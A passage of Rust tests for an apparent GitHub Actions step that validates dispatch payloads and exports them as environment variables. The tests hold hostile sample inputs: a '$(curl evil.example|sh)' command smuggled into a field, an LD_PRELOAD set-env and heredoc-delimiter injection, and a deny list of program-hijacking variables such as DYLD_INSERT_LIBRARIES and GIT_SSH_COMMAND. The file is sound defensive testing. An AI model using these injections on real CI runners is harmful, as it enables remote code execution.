        r.errors()
    );
}

/// An accept list that is given must name someone: `","` is not "anyone".
/// Refused (exit 2) before the event is read.
#[test]
fn an_accept_list_given_must_name_at_least_one_entry() {
    for (input, value) in [
        ("SENDERS", ","),
        ("SENDERS", " , \n "),
        ("SENDERS", "\n,\n,"),
        ("EVENT-TYPES", ","),
        ("EVENT-TYPES", " ,, "),
    ] {
        let step = Step::dispatch(&valid_payload(), &[(input, value)]);
        std::fs::remove_file(step.dir.path().join("event.json")).unwrap();
        let r = step.run(&[]);
        let name = input.to_ascii_lowercase();
        assert_eq!(r.code, 2, "{input}={value:?}: {r:?}");
        assert_eq!(
            r.errors(),
            [format!(
                "::error title=Invalid input%3A {name}::{name} is set but names no {}: list at least one, separated by commas or line breaks, or leave {name} out to accept any",
                if input == "SENDERS" {
                    "sender"
                } else {
                    "event type"
                }
            )],
            "{input}={value:?}"
        );
        assert!(r.wrote_nothing());
    }
    // The flags too.
    let step = Step::dispatch(&valid_payload(), &[]);
    let r = step.run(&["--senders", ","]);
    assert_eq!(r.code, 2, "{r:?}");
    assert!(r.wrote_nothing());
}

/// Drafts 4, 6 and 7 ignore every keyword beside a `$ref`, anywhere in the
/// schema: refused with each place, not only at the top level.
#[test]
fn keywords_beside_any_ref_of_an_old_draft_are_refused() {
    let refused: &[(&str, &str)] = &[
        (
            r##"{"$schema": "http://json-schema.org/draft-07/schema#", "definitions": {"s": {"type": "string"}}, "properties": {"name": {"$ref": "#/definitions/s", "pattern": "^[a-z0-9-]+$", "maxLength": 10}}}"##,
            "maxLength, pattern at #/properties/name",
        ),
        (
            r##"{"$schema": "http://json-schema.org/draft-04/schema#", "definitions": {"s": {"type": "string"}}, "properties": {"tags": {"type": "array", "items": {"$ref": "#/definitions/s", "enum": ["a"]}}}}"##,
            "enum at #/properties/tags/items",
        ),
        (
            r##"{"$schema": "http://json-schema.org/draft-06/schema#", "definitions": {"s": {"type": "string"}}, "allOf": [{"$ref": "#/definitions/s", "minLength": 1}], "properties": {"a~b/c": {"anyOf": [{"$ref": "#/definitions/s", "const": "x"}]}}}"##,
            "minLength at #/allOf/0; const at #/properties/a~0b~1c/anyOf/0",
        ),
        (
            r##"{"$schema": "http://json-schema.org/draft-07/schema#", "$ref": "#/definitions/x", "definitions": {"x": {"type": "object"}, "y": {"$ref": "#/definitions/x", "required": ["a"]}}, "properties": {"tag": {"pattern": "^[a-z]+$"}}}"##,
            "properties at #; required at #/definitions/y",
        ),
    ];
    for (schema, says) in refused {
        let step = inline(&json!({"name": "x"}), schema, &[]);
        std::fs::remove_file(step.dir.path().join("event.json")).unwrap();
        let r = step.run(&[]);
        assert_eq!(r.code, 2, "{schema}: {r:?}");
        assert_eq!(
            r.errors(),
            [format!(
                "::error title=Invalid schema::schema: its draft ignores every keyword beside a $ref, so these would not be checked: {says}: wrap the $ref and its keywords in allOf, as in {{\"allOf\": [{{\"$ref\": \"#/definitions/s\"}}, {{\"maxLength\": 10}}]}}, or use draft 2020-12 (which applies both)"
            )],
            "{schema}"
        );
        assert!(r.wrote_nothing());
    }
    // Not a place for keywords: values (enum, const, default, examples) and
    // property names; annotations beside a $ref; and draft 2020-12, which
    // applies both.
    for schema in [
        r##"{"$schema": "http://json-schema.org/draft-07/schema#", "definitions": {"s": {"type": "string"}}, "properties": {"obj": {"properties": {"$ref": {"type": "string"}, "maxLength": {"type": "string"}}}, "pattern": {"enum": [{"$ref": "#/x", "pattern": "y"}], "default": {"$ref": "#/x", "minLength": 1}}, "name": {"$ref": "#/definitions/s", "title": "Name", "description": "a name", "$comment": "c", "default": "x", "examples": ["y"]}}}"##,
        r##"{"$defs": {"s": {"type": "string"}}, "properties": {"name": {"$ref": "#/$defs/s", "maxLength": 10}}}"##,
    ] {
        let r = inline(&json!({"name": "x"}), schema, &[]).run(&[]);
        assert_eq!(r.code, 0, "{schema}: {r:?}");
    }
    // The case of the issue, in 2020-12: both apply.
    let r = inline(
        &json!({"name": "$(curl evil.example|sh) and more than ten chars"}),
        r##"{"$defs": {"s": {"type": "string"}}, "properties": {"name": {"$ref": "#/$defs/s", "pattern": "^[a-z0-9-]+$", "maxLength": 10}}}"##,
        &[],
    )
    .run(&[]);
    assert_eq!(r.code, 1, "{r:?}");
    assert_eq!(r.errors().len(), 2, "{r:?}");
}

/// (env-prefix, property, what the error names): names that were once
/// exported, and one of each family that matters on Linux, macOS and Windows
/// runners (the whole table: `src/receive/env_names.rs`).
const REFUSED_VARIABLES: &[(&str, &str, &str)] = &[
    (
        "CGO_",
        "cflags",
        "env-prefix CGO_ would set CGO_* variables",
    ),
    (
        "OPENSSL_",
        "conf",
        "env-prefix OPENSSL_ would set OPENSSL_* variables",
    ),
    ("GLIBC_", "tunables", "would be exported as GLIBC_TUNABLES"),
    (
        "CMAKE_",
        "c_compiler_launcher",
        "env-prefix CMAKE_ would set CMAKE_* variables",
    ),
    (
        "SUDO_",
        "askpass",
        "env-prefix SUDO_ would set SUDO_* variables",
    ),
    ("APT_", "config", "would be exported as APT_CONFIG"),
    ("R_", "profile_user", "would be exported as R_PROFILE_USER"),
    (
        "GCC_",
        "exec_prefix",
        "env-prefix GCC_ would set GCC_* variables",
    ),
    (
        "DYLD_",
        "insert_libraries",
        "env-prefix DYLD_ would set DYLD_* variables",
    ),
    (
        "NPM_",
        "config_registry",
        "env-prefix NPM_ would set NPM_* variables",
    ),
    (
        "PYTHON_",
        "basic_repl",
        "env-prefix PYTHON_ would set PYTHON* variables",
    ),
    ("PERL5_", "x", "env-prefix PERL5_ would set PERL* variables"),
    ("RUBY_", "x", "env-prefix RUBY_ would set RUBY* variables"),
    (
        "JAVA_",
        "tool_options",
        "env-prefix JAVA_ would set JAVA_* variables",
    ),
    ("CONFIG_", "site", "would be exported as CONFIG_SITE"),
    ("LESS_", "x", "env-prefix LESS_ would set LESS* variables"),
    (
        "PHP_",
        "ini_scan_dir",
        "env-prefix PHP_ would set PHP_* variables",
    ),
    (
        "PYTEST_",
        "addopts",
        "env-prefix PYTEST_ would set PYTEST_* variables",
    ),
    (
        "PKG_",
        "config_path",
        "would be exported as PKG_CONFIG_PATH",
    ),
    (
        "ASAN_",
        "options",
        "env-prefix ASAN_ would set ASAN_* variables",
    ),
    ("RES_", "options", "would be exported as RES_OPTIONS"),
    ("DEVELOPER_", "dir", "would be exported as DEVELOPER_DIR"),
    (
        "HOMEBREW_",
        "brew_git_remote",
        "env-prefix HOMEBREW_ would set HOMEBREW_* variables",
    ),
    (
        "RUSTC_",
        "wrapper",
        "env-prefix RUSTC_ would set RUSTC_* variables",
    ),
    (
        "GIT_",
        "ssh_command",
        "env-prefix GIT_ would set GIT_* variables",
    ),
    (
        "DOCKER_",
        "host",
        "env-prefix DOCKER_ would set DOCKER_* variables",
    ),
    ("GH_", "host", "env-prefix GH_ would set GH_* variables"),
    ("NO_", "proxy", "env-prefix NO_ would set NO_* variables"),
    (
        "ACTIONS_",
        "runtime_url",
        "env-prefix ACTIONS_ would set ACTIONS_* variables",
    ),
];

/// Names that run code or redirect programs, exported under an env-prefix a
/// workflow could choose: each refused, naming the variable or the family.
#[test]
fn variables_that_change_how_programs_run_are_refused() {
    for (prefix, property, says) in REFUSED_VARIABLES {
        let schema = json!({"properties": {*property: {"type": "string"}}}).to_string();
        let step = inline(&json!({*property: "x"}), &schema, &[("ENV-PREFIX", prefix)]);
        std::fs::remove_file(step.dir.path().join("event.json")).unwrap();
        let r = step.run(&[]);
        assert_eq!(r.code, 2, "{prefix}{property}: {r:?}");
        let errors = r.errors();
        assert_eq!(errors.len(), 1, "{prefix}{property}: {errors:?}");
        assert!(
            errors[0].starts_with("::error title=Invalid input%3A env-prefix::")
                && errors[0].contains(says),
            "{prefix}{property}: {}",
            errors[0]
        );
        assert!(r.wrote_nothing(), "{prefix}{property}");
    }
    // A prefix of one's own is fine, even one that shares letters with a
    // family (PYTHONIC_ is not PYTHON's, CGOOD_ not CGO_'s: both are still
    // refused if they start the family's name; these do not).
    for prefix in ["DEPLOY_", "APP_", "CD_", "RELEASE_"] {
        let r = Step::dispatch(&valid_payload(), &[("ENV-PREFIX", prefix)]).run(&[]);
        assert_eq!(r.code, 0, "{prefix}: {r:?}");
    }
}

/// A multi-line value reaches the environment whole, in the runner's
/// `NAME<<DELIMITER` form; the runner reads it back as one variable and
/// nothing else. A NUL is still refused.
#[test]
fn a_multi_line_value_is_exported_whole() {
    let schema = r#"{"type": "object", "properties": {"notes": {"type": "string"}}}"#;
    let notes = "line one\r\nline two\n::set-env name=LD_PRELOAD::/tmp/x.so\nEOF\nghadelimiter_0\nINJECTED<<EOF\nx\nEOF\n\nlast";
    let r = inline(
        &json!({"notes": notes}),
        schema,
        &[("ENV-PREFIX", "DEPLOY_")],
    )
    .run(&[]);
    assert_eq!(r.code, 0, "{r:?}");
    assert_eq!(
        records(&r.env_file),
        [("DEPLOY_NOTES".to_owned(), notes.to_owned())]
    );
    assert_eq!(r.outputs()[0], ("notes".to_owned(), notes.to_owned()));

    let r = inline(
        &json!({"notes": "a\u{0}b"}),
        schema,
        &[("ENV-PREFIX", "DEPLOY_")],
    )
    .run(&[]);
    assert_eq!(r.code, 1, "{r:?}");
    assert_eq!(
        r.errors(),
        [
            "::error title=Value refused for the environment::client_payload/notes: the value holds a NUL character, which an environment variable (DEPLOY_NOTES) cannot hold: read it from the step output notes instead, or forbid it in the schema (a pattern)"
        ]
    );
    assert!(r.wrote_nothing());
}

/// An event file that is not a JSON object is refused (exit 1), nothing
/// written, even when the schema would accept an empty payload.
#[test]
fn an_event_file_that_is_not_an_object_is_refused() {
    for (text, kind) in [
        ("[]", "an array"),
        (r#"[{"client_payload": {}}]"#, "an array"),
        (r#""{}""#, "a string"),
        ("1", "a number"),
        ("null", "null"),
        ("true", "a boolean"),
    ] {
        for event_name in ["repository_dispatch", "workflow_dispatch"] {
            let step = Step::new(
                event_name,
                &json!({}),
                &[("SCHEMA", "{\"type\": \"object\"}")],
            )
            .unset("INPUT_SCHEMA-FILE");
            std::fs::write(step.dir.path().join("event.json"), text).unwrap();
            let r = step.run(&[]);
            assert_eq!(r.code, 1, "{text}: {r:?}");
            assert_eq!(
                r.errors(),
                [format!(
                    "::error title=Event unreadable::the event file holds {kind}, not a JSON object: the runner writes the event as an object; outside a workflow, give --event the path of a saved event (the webhook payload, an object)"
                )],
                "{text}"
            );
            assert!(r.wrote_nothing(), "{text}");
        }
    }
}

/// A schema that is not JSON gets the sender's treatment of a bad
/// `client-payload`: where, the text near the mistake, and what to do.
#[test]
fn a_schema_that_is_not_json_is_shown_near_the_mistake() {
    let cases: &[(&str, &str)] = &[
        (
            r#"{"type": "object""#,
            "schema is not valid JSON: EOF while parsing an object at line 1, column 17 (near `{\"type\": \"object\"`): the JSON ends early: a brace, bracket or quote is not closed; give a multi-line schema as a YAML block (schema: |) or in a file (schema-file)",
        ),
        (
            "{\"type\": \"object\",\n \"properties\": {\"a\": {\"type\": 'string'}}}",
            "schema is not valid JSON: expected value at line 2, column 31 (near `es\": {\"a\": {\"type\": 'string'}}}`): JSON strings and keys take double quotes",
        ),
        (
            r#"{"type": "object",}"#,
            "schema is not valid JSON: trailing comma at line 1, column 19 (near `{\"type\": \"object\",}`): JSON allows no trailing comma: remove the comma after the last element",
        ),
        (
            r#"{type: "object"}"#,
            "schema is not valid JSON: key must be a string at line 1, column 2 (near `{type: \"object\"}`): keys must be in double quotes, as in {\"type\": \"object\"}",
        ),
    ];
    for (schema, says) in cases {
        let step = inline(&valid_payload(), schema, &[]);
        std::fs::remove_file(step.dir.path().join("event.json")).unwrap();
        let r = step.run(&[]);
        assert_eq!(r.code, 2, "{schema}: {r:?}");
        assert_eq!(
            r.errors(),
            [format!("::error title=Invalid schema::{says}")],
            "{schema}"
        );
        assert!(r.wrote_nothing());
    }
    // A schema file: named by its path.
    let step = Step::dispatch(&valid_payload(), &[]);
    std::fs::write(
        step.dir.path().join("workspace/.github").join(SCHEMA),
        "{\n  \"type\": \"object\"\n  \"required\": [\"a\"]\n}\n",
    )
    .unwrap();
    let r = step.run(&[]);
    assert_eq!(r.code, 2, "{r:?}");
    assert_eq!(
        r.errors(),
        [
            "::error title=Invalid schema::schema-file .github/deploy.schema.json is not valid JSON: expected `,` or `}` at line 3, column 3 (near `  \"required\": [\"a\"]`): check the JSON near there (jq . FILE shows the first mistake); in a workflow, give the schema as a YAML block (schema: |) or in a file (schema-file)"
        ]
    );
}
